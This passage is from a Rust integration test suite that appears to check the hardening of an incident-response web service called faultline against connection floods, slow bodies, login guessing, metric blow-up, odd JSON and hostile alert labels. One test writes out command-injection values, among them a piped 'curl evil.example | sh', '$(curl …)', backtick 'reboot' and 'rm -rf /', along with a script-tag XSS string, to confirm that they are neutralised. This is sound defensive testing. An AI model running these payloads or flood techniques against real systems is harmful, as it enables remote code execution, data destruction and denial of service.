                    String::from_utf8_lossy(&got).into_owned(),
                    Some(since.elapsed()),
                );
            }
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
        }
    }
}

/// `/healthz` from 127.0.0.1, `times` times: each answers 200; the slowest.
async fn healthz_meanwhile(addr: std::net::SocketAddr, times: usize) -> Duration {
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap();
    let mut slowest = Duration::ZERO;
    for _ in 0..times {
        let started = Instant::now();
        let r = client
            .get(format!("http://{addr}/healthz"))
            .send()
            .await
            .expect("/healthz answers during the flood");
        assert_eq!(r.status(), StatusCode::OK);
        slowest = slowest.max(started.elapsed());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    slowest
}

/// 300 sockets that never send a byte from one address, and 40 that trickle
/// a request head a byte at a time from another: past the per-address cap
/// the server answers 503 and closes at once; the rest are closed once the
/// head timeout passes. `/healthz` answers throughout. (Before: silent
/// sockets stayed open for minutes and 4,100 filled `max_connections`.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_and_slowloris_floods_are_closed_in_time_while_healthz_answers() {
    use tokio::io::AsyncWriteExt;
    let mut config = common::anonymous_read_config();
    config.header_read_timeout_s = 1;
    config.security.max_connections_per_address = 200;
    let (addr, _t, stop, handle) = common::serve_in_process(config).await;

    let started = Instant::now();
    let mut silent = Vec::new();
    for _ in 0..300 {
        silent.push(connect_from([127, 0, 0, 2], addr).await);
    }
    let mut slow = Vec::new();
    for _ in 0..40 {
        let mut conn = connect_from([127, 0, 0, 3], addr).await;
        slow.push(tokio::spawn(async move {
            let since = Instant::now();
            let head = b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-Slow: ";
            for byte in head.iter().chain(std::iter::repeat(&b'a')) {
                if conn.write_all(&[*byte]).await.is_err()
                    || since.elapsed() > Duration::from_secs(8)
                {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            read_until_closed(&mut conn, since, Duration::from_secs(8)).await
        }));
    }
    let slowest = healthz_meanwhile(addr, 10).await;
    assert!(
        slowest < Duration::from_secs(2),
        "/healthz took {slowest:?}"
    );

    let (mut refused, mut timed_out) = (0, 0);
    for mut conn in silent {
        let (sent, closed) = read_until_closed(&mut conn, started, Duration::from_secs(8)).await;
        let closed = closed.expect("a silent socket is closed by the server");
        if sent.starts_with("HTTP/1.1 503") {
            refused += 1;
        } else {
            assert_eq!(sent, "", "a silent socket gets nothing");
            assert!(closed < Duration::from_secs(4), "closed after {closed:?}");
            timed_out += 1;
        }
    }
    assert_eq!(
        (refused, timed_out),
        (100, 200),
        "the cap is 200 per address"
    );
    for task in slow {
        let (sent, closed) = task.await.unwrap();
        let closed = closed.expect("a slowloris connection is closed by the server");
        assert!(
            !sent.contains("200 OK"),
            "the trickled head was never served"
        );
        assert!(closed < Duration::from_secs(4), "closed after {closed:?}");
    }
    stop.send(Stop::Interrupt).unwrap();
    handle.await.unwrap();
}

/// 520 `POST /login` whose bodies never finish (the finding: they held all
/// 512 request places and everything answered 503). Bodies are read before
/// a request takes a place, so with only 8 places a page still loads and
/// `/healthz` answers; each slow sender gets 408 when its time is up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_bodies_hold_no_request_places_and_get_408() {
    use tokio::io::AsyncWriteExt;
    let mut config = common::anonymous_read_config();
    config.body_read_timeout_s = 2;
    config.security.max_concurrent_requests = 8;
    let (addr, _t, stop, handle) = common::serve_in_process(config).await;

    let started = Instant::now();
    let mut slow = Vec::new();
    for i in 0..520u16 {
        // Spread over three addresses: the per-address cap is not the point.
        let mut conn = connect_from([127, 0, 1, 1 + (i % 3) as u8], addr).await;
        conn.write_all(
            b"POST /login HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\n\
              Content-Length: 100\r\n\r\nname=a&password=",
        )
        .await
        .unwrap();
        slow.push(conn);
    }
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap();
    for page in ["/login", "/playbooks"] {
        let r = client
            .get(format!("http://{addr}{page}"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{page} during the flood");
    }
    let slowest = healthz_meanwhile(addr, 5).await;
    assert!(
        slowest < Duration::from_secs(2),
        "/healthz took {slowest:?}"
    );

    for conn in &mut slow {
        let (sent, closed) = read_until_closed(conn, started, Duration::from_secs(15)).await;
        assert!(sent.starts_with("HTTP/1.1 408"), "{sent}");
        let closed = closed.expect("closed after the 408");
        assert!(closed < Duration::from_secs(10), "closed after {closed:?}");
    }
    stop.send(Stop::Interrupt).unwrap();
    handle.await.unwrap();
}

// ---- labels never become commands ------------------------------------------

/// Opens an incident from one firing Alertmanager alert with `labels` and
/// the `summary` annotation; its id.
async fn alert_incident(state: &AppState, labels: serde_json::Value, summary: &str) -> i64 {
    let (token, _) =
        faultline::accounts::add_api_token(state.kb.store(), "am", Role::Responder, "test")
            .await
            .unwrap();
    let body = serde_json::json!({
        "version": "4", "status": "firing", "receiver": "faultline",
        "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {},
        "externalURL": "http://alertmanager:9093",
        "alerts": [{
            "status": "firing", "labels": labels,
            "annotations": {"summary": summary},
            "startsAt": "2026-11-24T03:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
            "fingerprint": "0badc0de"
        }]
    });
    let a = common::send(
        state,
        Request::post("/api/v1/alertmanager")
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(body.to_string()))
            .unwrap(),
    )
    .await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.text);
    a.json()["opened"][0].as_i64().expect("an incident opened")
}

/// Hostile label values (a shell command after `;`, backticks, `$(…)`, a
/// newline, a Markdown link) leave their placeholders unfilled, with a note
/// why; valid ones fill. The checklist never shows a label as a command or
/// as a link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_label_values_are_left_unfilled_with_a_note() {
    let t = common::app().await;
    let evil = "10.0.0.9; curl -s https://evil.example/x.sh | sh #";
    let id = alert_incident(
        &t.state,
        serde_json::json!({
            "alertname": "Hostile",
            "host": "db-1",
            "namespace": evil,
            "pod": "api-1`reboot`",
            "service": "$(curl https://evil.example)",
            "target": "[x](https://evil.example/)",
        }),
        "summary",
    )
    .await;
    let alice = common::session_for(&t.state, "alice", Role::Responder).await;
    let url = format!("/incidents/{id}");
    for playbook in ["crashing-endpoint-refused", "dns-ndots-search-delay"] {
        let chosen = common::form(
            &t.state,
            &alice,
            &url,
            &[("action", "playbook"), ("playbook", playbook)],
        )
        .await;
        assert!(chosen.status.is_redirection(), "{}", chosen.text);
        let page = common::get_as(&t.state, &alice, &url).await;
        assert_eq!(page.status, StatusCode::OK);
        let html = &page.text;
        // The commands keep their placeholders; no value reaches one.
        let code: String = html
            .split("<code")
            .skip(1)
            .filter_map(|c| c.split_once("</code>").map(|(inside, _)| inside))
            .collect();
        assert!(code.contains("-n $NS $POD"), "{playbook}: {code}");
        for raw in ["10.0.0.9", "reboot", "$(curl", "sh #", "evil.example"] {
            assert!(!code.contains(raw), "{playbook}: {raw} reached a command");
        }
        assert!(
            !html.contains("href=\"https://evil"),
            "{playbook}: a label link"
        );
        // Each unfilled placeholder says why, the value escaped.
        let note = html
            .find("$NS is not filled: the label namespace = ")
            .map(|at| &html[at..at + 120])
            .unwrap_or_else(|| panic!("{playbook}: no note in {html}"));
        assert!(note.contains("10.0.0.9; curl"), "{note}");
        assert!(html.contains("$POD is not filled"), "{playbook}");
    }
    // The dns playbook uses $TARGET; a valid host label fills $HOST.
    let page = common::get_as(&t.state, &alice, &url).await;
    assert!(page.text.contains("$TARGET is not filled"), "{}", page.text);
    let chosen = common::form(
        &t.state,
        &alice,
        &url,
        &[("action", "playbook"), ("playbook", "mtu-blackhole")],
    )
    .await;
    assert!(chosen.status.is_redirection());
    let page = common::get_as(&t.state, &alice, &url).await;
    assert!(page.text.contains("tracepath -n db-1"), "{}", page.text);

    // A newline in a value cannot start a line of its own either.
    let filled = faultline::core::placeholders::fill(
        "```sh\nping $HOST\n```\n",
        &std::collections::BTreeMap::from([("host".to_owned(), "db-1\nrm -rf /".to_owned())]),
    );
    assert_eq!(filled.text, "```sh\nping $HOST\n```\n");
    assert_eq!(filled.unfilled.len(), 1);
}

/// A code fence and `## Heading`s in an alert's name, labels and summary
/// (the finding: *Write postmortem* then answered 500 every time): the
/// draft is written, parses, and shows that text as written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fenced_and_headed_labels_still_draft_a_postmortem() {
    let t = common::app().await;
    let id = alert_incident(
        &t.state,
        serde_json::json!({
            "alertname": "## Impact",
            "host": "db-1",
            "note": "```\n## Root cause\n",
            "runbook": "[x](https://evil.example/)",
        }),
        "```\n## Fix\n# Evil\n> <script>alert(1)</script>\n1. step\n---",
    )
    .await;
    let alice = common::session_for(&t.state, "alice", Role::Responder).await;
    let written = common::form(
        &t.state,
        &alice,
        &format!("/incidents/{id}/postmortem"),
        &[],
    )
    .await;
    assert!(
        written.status.is_redirection(),
        "{}: {}",
        written.status,
        written.text
    );
    let at = written.location.clone().unwrap();
    let page = common::get_as(&t.state, &alice, &at).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    assert!(!page.text.contains("does not parse"), "{}", page.text);
    assert!(
        !page.text.contains("<script>alert"),
        "raw HTML from an alert"
    );
    assert!(
        !page.text.contains("href=\"https://evil"),
        "a link from a label"
    );
    // Nine sections, each heading once: the alert's headings are text.
    for heading in ["Impact", "Root cause", "Fix"] {
        assert_eq!(
            page.text.matches(&format!(">{heading}</h2>")).count(),
            1,
            "{heading}: {}",
            page.text
        );
    }
    assert!(page.text.contains("## Impact"), "the alert name as written");

    let pm_id = at.rsplit('/').next().unwrap();
    let api = common::get_as(&t.state, &alice, &format!("/api/v1/postmortems/{pm_id}")).await;
    let source = api.json()["source"].as_str().unwrap().to_owned();
    faultline::core::postmortem::Postmortem::parse("draft", &source)
        .unwrap_or_else(|e| panic!("{e}\n{source}"));
}

// ---- a stranger cannot hold an account -------------------------------------

/// A login from `address` (as the socket would give it).
fn login_from(name: &str, password: &str, address: &str) -> Request<Body> {
    let mut req = login_request(name, password, None);
    let peer: std::net::SocketAddr = format!("{address}:40000").parse().unwrap();
    req.extensions_mut()
        .insert(axum::extract::ConnectInfo(peer));
    req
}

/// The finding's pattern, at a third of the time scale: the burst, then one
/// wrong guess for a known account every refill / 3 (there: every 4 s
/// against a 12 s refill), which kept the owner at 429 for 104 s. Now the
/// guesser waits; the owner's right password from another address works
/// every time; the guesser's own right password waits too (no oracle).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_guessing_an_account_never_holds_its_owner_out() {
    let mut config = Config::default();
    config.security.login_account_burst = 5;
    config.security.login_account_refill_s = 3;
    let t = common::app_with(config).await;
    add_user(&t.state, "olivia", Role::Editor).await;
    let (stranger, owner) = ("198.51.100.7", "203.0.113.20");

    let mut limited = 0;
    let started = Instant::now();
    for round in 0..12 {
        let a = send(
            &t.state,
            login_from("olivia", "guess-guess-guess", stranger),
        )
        .await;
        match a.status {
            StatusCode::UNAUTHORIZED => {}
            StatusCode::TOO_MANY_REQUESTS => limited += 1,
            other => panic!("guess {round}: {other}"),
        }
        if round % 3 == 2 {
            let a = send(&t.state, login_from("olivia", PASSWORD, owner)).await;
            assert_eq!(a.status, StatusCode::SEE_OTHER, "round {round}: {}", a.body);
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    // The guesser got the burst and one guess per refill, no more.
    let allowed = 12 - limited;
    let refills = started.elapsed().as_secs() / 3;
    assert!(
        limited > 0 && allowed <= 5 + refills + 1,
        "{allowed} guesses in {refills} refills"
    );
    // Right after a refused guess, the right password from that address is
    // refused too: the limit tells nothing about the password. (Tried a few
    // times: a refill may land between the two on a loaded machine.)
    let no_oracle = async {
        for _ in 0..10 {
            let guess = send(
                &t.state,
                login_from("olivia", "guess-guess-guess", stranger),
            )
            .await;
            if guess.status != StatusCode::TOO_MANY_REQUESTS {
                continue;
            }
            let right = send(&t.state, login_from("olivia", PASSWORD, stranger)).await;
            if right.status == StatusCode::TOO_MANY_REQUESTS {
                return true;
            }
            assert_eq!(right.status, StatusCode::SEE_OTHER);
        }
        false
    };
    assert!(
        no_oracle.await,
        "the right password was never refused with the guesses"
    );

    // The per-address limit still holds: one address, many accounts.
    for i in 0..30 {
        let a = send(
            &t.state,
            login_from(&format!("u{i}"), "guess-guess-guess", "192.0.2.99"),
        )
        .await;
        if a.status == StatusCode::TOO_MANY_REQUESTS {
            return;
        }
    }
    panic!("30 logins from one address were never limited");
}

// ---- bounded metrics -------------------------------------------------------

/// 400 requests with made-up methods to made-up paths (the finding: 20k
/// requests grew `/metrics` to 21 MB): they count as method `other` and
/// route `unmatched`, and `/metrics` stays the size it was.
#[tokio::test]
async fn made_up_methods_and_paths_do_not_grow_metrics() {
    use rand::Rng;
    let t = common::app().await;
    let mut rng = rand::rng();
    let mut random_token = |n: usize| -> String {
        (0..n)
            .map(|_| char::from(rng.random_range(b'A'..=b'Z')))
            .collect()
    };
    let mut made_up = |i: usize| {
        let method = random_token(3 + i % 9);
        let path = format!("/{}/{}", random_token(6), i);
        (method, path)
    };
    let send_some = |batch: Vec<(String, String)>| {
        let state = t.state.clone();
        async move {
            for (method, path) in batch {
                let req = Request::builder()
                    .method(method.as_str())
                    .uri(&path)
                    .body(Body::empty())
                    .unwrap();
                let a = send(&state, req).await;
                assert!(a.status.is_client_error(), "{method} {path}: {}", a.status);
            }
        }
    };
    let on_a_route = |i: usize| {
        let state = t.state.clone();
        async move {
            let req = Request::builder()
                .method(format!("X{i}").as_str())
                .uri("/playbooks")
                .body(Body::empty())
                .unwrap();
            send(&state, req).await;
        }
    };
    // Every series the flood could touch exists once before it.
    send_some((0..20).map(&mut made_up).collect()).await;
    on_a_route(0).await;
    send(&t.state, get("/metrics", None)).await;
    let before = send(&t.state, get("/metrics", None)).await.body;
    send_some((20..400).map(&mut made_up).collect()).await;
    // Made-up methods on a real route too.
    for i in 1..50 {
        on_a_route(i).await;
    }
    let after = send(&t.state, get("/metrics", None)).await.body;
    let series = |text: &str| {
        text.lines()
            .filter(|l| l.starts_with("faultline_http_requests_total{"))
            .count()
    };
    assert!(after.contains("method=\"other\""), "{after}");
    assert!(after.contains("route=\"unmatched\""), "{after}");
    assert_eq!(series(&after), series(&before), "{after}");
    // Only counts grew (a few digits each).
    assert!(
        after.len() < before.len() + 512,
        "{} -> {} bytes",
        before.len(),
        after.len()
    );
}

// ---- stored means readable -------------------------------------------------

/// Reports that are valid JSON yet odd: numbers past f64, deep nesting in
/// fields we ignore, lone surrogates, long strings, odd Unicode, unknown
/// kinds. Each one ingest takes must read back (API and page) as sent;
/// the rest are refused with a clear 4xx and not stored. (The finding: a
/// report stored with 201 then answered 500 on every read.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whatever_ingest_stores_reads_back() {
    let t = common::app().await;
    let (_, token) = faultline::ingest::add_collector(
        t.state.kb.store(),
        "odd-1",
        &std::collections::BTreeMap::new(),
    )
    .await
    .unwrap();
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let long = "x".repeat(400_000);
    // Raw JSON fragments spliced into the report: (where, fragment).
    let odd: Vec<(&str, String)> = vec![
        ("top", "\"extra\": 1e400".into()),
        ("top", "\"extra\": -1e400".into()),
        ("top", format!("\"extra\": {}", deep(200))),
        ("top", format!("\"extra\": {}", deep(100))),
        ("top", "\"extra\": \"\\ud800\"".into()),
        ("top", "\"extra\": \"\\udc00\\ud800\"".into()),
        ("top", "\"extra\": 18446744073709551616".into()),
        (
            "top",
            "\"extra\": 123456789012345678901234567890e-10".into(),
        ),
        ("obs", "{\"kind\": \"x_custom\", \"v\": 1e400}".into()),
        (
            "obs",
            format!("{{\"kind\": \"x_custom\", \"v\": {}}}", deep(150)),
        ),
        (
            "obs",
            format!("{{\"kind\": \"x_custom\", \"v\": \"{long}\"}}"),
        ),
        (
            "obs",
            "{\"kind\": \"x_\\u202e\\u0000\\ud83d\\ude00e\\u0301\", \"v\": \"\\u2028\"}".into(),
        ),
        ("obs", "{\"kind\": \"\", \"v\": -0}".into()),
        (
            "obs",
            "{\"kind\": \"tcp_states\", \"counts\": {\"ESTABLISHED\": 1e400}}".into(),
        ),
        (
            "obs",
            "{\"kind\": \"http_latency\", \"target\": \"a\", \"samples\": [[1, 1e308, 200]]}"
                .into(),
        ),
    ];
    let base = common::example("close-wait-leak-1");
    for (at, fragment) in odd {
        let mut report = base.clone();
        report["report_id"] = serde_json::json!(uuid::Uuid::new_v4().to_string());
        let id = report["report_id"].as_str().unwrap().to_owned();
        let text = report.to_string();
        let body = match at {
            "top" => format!("{{{fragment}, {}", &text[1..]),
            _ => text.replacen(
                "\"observations\":[",
                &format!("\"observations\":[{fragment},"),
                1,
            ),
        };
        assert_ne!(body, text, "{fragment:.60}: spliced");
        let sent = common::send_report(&t.state, &token, body.clone()).await;
        let read = common::get(&t.state, &format!("/api/v1/reports/{id}")).await;
        let page = common::get(&t.state, &format!("/reports/{id}")).await;
        if sent.status.is_success() {
            assert_eq!(read.status, StatusCode::OK, "{fragment:.60}: {}", read.text);
            assert_eq!(page.status, StatusCode::OK, "{fragment:.60}: page");
            let as_sent: serde_json::Value = serde_json::from_str(&body).unwrap();
            assert_eq!(read.json()["report"], as_sent, "{fragment:.60}");
        } else {
            assert!(
                [StatusCode::BAD_REQUEST, StatusCode::UNPROCESSABLE_ENTITY].contains(&sent.status),
                "{fragment:.60}: {} {}",
                sent.status,
                sent.text
            );
            assert!(sent.json()["error"]["message"].is_string());
            assert_eq!(
                read.status,
                StatusCode::NOT_FOUND,
                "{fragment:.60}: stored anyway"
            );
        }
    }
}

// ---- changing and resetting passwords --------------------------------------

/// A form post over the router from the session behind `cookie`.
async fn post_form(state: &AppState, uri: &str, cookie: &str, fields: &str) -> Answer {
    let csrf = csrf_of(state, cookie).await;
    let req = Request::post(uri)
        .header(header::HOST, "localhost")
        .header(header::ORIGIN, "http://localhost")
        .header(header::COOKIE, cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("{fields}&csrf_token={csrf}")))
        .unwrap();
    send(state, req).await
}

/// Logs `name` in through the form; the session cookie.
async fn log_in(state: &AppState, name: &str, password: &str) -> String {
    let a = send(state, login_request(name, password, None)).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{name}: {}", a.body);
    set_cookie(&a)
}

/// Change your own password (current one required) and an admin's reset:
/// each ends the user's other sessions, the new password works and the old
/// one does not, and the audit log has it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn password_change_and_admin_reset_end_the_other_sessions() {
    // Every request here comes from one address: room for them all.
    let mut config = Config::default();
    config.security.login_account_burst = 100;
    let t = common::app_with(config).await;
    add_user(&t.state, "pat", Role::Responder).await;
    add_user(&t.state, "root", Role::Admin).await;
    let laptop = log_in(&t.state, "pat", PASSWORD).await;
    let phone = log_in(&t.state, "pat", PASSWORD).await;
    let page = send(&t.state, get("/account/password", Some(&laptop))).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("name=\"current\""), "{}", page.body);

    let new_password = "a-brand-new-passphrase";
    let wrong = post_form(
        &t.state,
        "/account/password",
        &laptop,
        &format!("current=not-it-at-all&new={new_password}&confirm={new_password}"),
    )
    .await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(wrong.body.contains("current password is not right"));
    let short = post_form(
        &t.state,
        "/account/password",
        &laptop,
        &format!("current={PASSWORD}&new=short&confirm=short"),
    )
    .await;
    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(short.body.contains("too short"), "{}", short.body);

    let changed = post_form(
        &t.state,
        "/account/password",
        &laptop,
        &format!("current={PASSWORD}&new={new_password}&confirm={new_password}"),
    )
    .await;
    assert_eq!(changed.status, StatusCode::SEE_OTHER, "{}", changed.body);
    let renewed = set_cookie(&changed);
    for (who, cookie, status) in [
        ("the old laptop session", &laptop, StatusCode::FOUND),
        ("the phone", &phone, StatusCode::FOUND),
        ("this browser's new session", &renewed, StatusCode::OK),
    ] {
        assert_eq!(
            send(&t.state, get("/", Some(cookie))).await.status,
            status,
            "{who}"
        );
    }
    let old = send(&t.state, login_request("pat", PASSWORD, None)).await;
    assert_eq!(old.status, StatusCode::UNAUTHORIZED, "the old password");
    let pat = log_in(&t.state, "pat", new_password).await;

    // An admin resets it; pat's sessions end; the reset password works.
    let admin = log_in(&t.state, "root", PASSWORD).await;
    let reset = post_form(
        &t.state,
        "/admin/users/pat",
        &admin,
        "action=password&password=reset-by-the-admin",
    )
    .await;
    assert_eq!(reset.status, StatusCode::SEE_OTHER, "{}", reset.body);
    assert_eq!(
        send(&t.state, get("/", Some(&pat))).await.status,
        StatusCode::FOUND
    );
    assert_eq!(
        send(&t.state, get("/", Some(&renewed))).await.status,
        StatusCode::FOUND
    );
    log_in(&t.state, "pat", "reset-by-the-admin").await;
    let own = post_form(
        &t.state,
        "/admin/users/root",
        &admin,
        "action=password&password=another-long-one",
    )
    .await;
    assert_eq!(
        own.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "own password: use the page"
    );

    let audit = t.state.kb.store().recent_audit(50).await.unwrap();
    let changes: Vec<(&str, &str)> = audit
        .iter()
        .filter(|a| a.detail.contains("password changed") || a.action.starts_with("password."))
        .map(|a| (a.actor.as_str(), a.action.as_str()))
        .collect();
    assert!(
        changes.contains(&("pat", "password.change.fail")),
        "{changes:?}"
    );
    assert!(changes.contains(&("pat", "user.update")), "{changes:?}");
    assert!(changes.contains(&("root", "user.update")), "{changes:?}");
}

/// `faultline user passwd NAME` (password from FAULTLINE_PASSWORD, then
/// from stdin) sets it and ends every session of theirs; an unknown name
/// fails with a message.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_passwd_command_sets_a_password_and_ends_sessions() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let bin = env!("CARGO_BIN_EXE_faultline");
    let faultline = |args: &[&str]| {
        let mut cmd = std::process::Command::new(bin);
        cmd.arg("--data-dir").arg(dir.path()).args(args);
        cmd.env_remove("FAULTLINE_PASSWORD");
        cmd
    };
    let out = faultline(&["user", "add", "sam", "--role", "viewer"])
        .env("FAULTLINE_PASSWORD", PASSWORD)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let store = faultline::store::connect(&faultline::store::sqlite_url(dir.path()))
        .await
        .unwrap();
    let (sam, _) = store.user_by_name("sam").await.unwrap().unwrap();
    store
        .create_session(faultline::store::NewSession {
            id_hash: "sam-session",
            user_id: sam.id,
            csrf_token: "c",
            replaces: None,
        })
        .await
        .unwrap();

    let out = faultline(&["user", "passwd", "sam"])
        .env("FAULTLINE_PASSWORD", "from-the-environment")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (_, hash) = store.user_by_name("sam").await.unwrap().unwrap();
    assert!(faultline::accounts::verify_password("from-the-environment".into(), Some(hash)).await);
    assert!(
        store.session("sam-session").await.unwrap().is_none(),
        "session ended"
    );

    let mut child = faultline(&["user", "passwd", "sam"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"typed-on-standard-input\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (_, hash) = store.user_by_name("sam").await.unwrap().unwrap();
    assert!(
        faultline::accounts::verify_password("typed-on-standard-input".into(), Some(hash)).await
    );

    let out = faultline(&["user", "passwd", "nobody"])
        .env("FAULTLINE_PASSWORD", "whatever-it-is-here")
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no user \"nobody\""));
    let audit = store.recent_audit(10).await.unwrap();
    assert!(
        audit.iter().any(|a| a.actor == "cli"
            && a.target == "sam"
            && a.detail.contains("password changed")),
        "{audit:?}"
    );
    store.close().await;
}

/// Runs the real binary with `args`, failing the test if it has not ended
/// within `limit` (and killing it).
fn run_bounded(args: &[&std::ffi::OsStr], limit: Duration) -> std::process::Output {
    use std::process::{Command, Stdio};
    let data = tempfile::tempdir().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_faultline"))
        .arg("--data-dir")
        .arg(data.path())
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("faultline {args:?} still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

/// #20: `faultline import /dev/zero` once read 4.2 GB in 4 s; a FIFO with
/// no writer would block for ever. Both are refused at once by name, and a
/// directory holding them imports the rest and lists them as skipped.
#[test]
fn import_refuses_devices_fifos_and_oversized_files_at_once() {
    let limit = Duration::from_secs(20);
    let out = run_bounded(&["import".as_ref(), "/dev/zero".as_ref()], limit);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("/dev/zero: a character device, not a regular file"),
        "{stderr}"
    );

    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe.md");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let out = run_bounded(&["import".as_ref(), fifo.as_os_str()], limit);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "{}: a FIFO (named pipe), not a regular file",
            fifo.display()
        )),
        "{stderr}"
    );

    let big = dir.path().join("big.md");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(faultline::import::MAX_FILE_BYTES + 1)
        .unwrap();
    let out = run_bounded(&["import".as_ref(), big.as_os_str()], limit);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&big.display().to_string()) && stderr.contains("import limit of 4 MiB"),
        "{stderr}"
    );

    std::fs::write(
        dir.path().join("TargetDown.md"),
        "# TargetDown\n\n## Meaning\n\nA scrape target stopped answering.\n\n## Mitigation\n\nBring it back.\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.md")).unwrap();
    let out = run_bounded(&["import".as_ref(), dir.path().as_os_str()], limit);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("imported target-down"), "{stdout}");
    assert!(stdout.contains("3 file(s) skipped"), "{stdout}");
    for name in ["big.md", "pipe.md", "zero.md"] {
        assert!(
            stdout
                .lines()
                .any(|l| l.starts_with("skipped ") && l.contains(name)),
            "{name}: {stdout}"
        );
    }
}
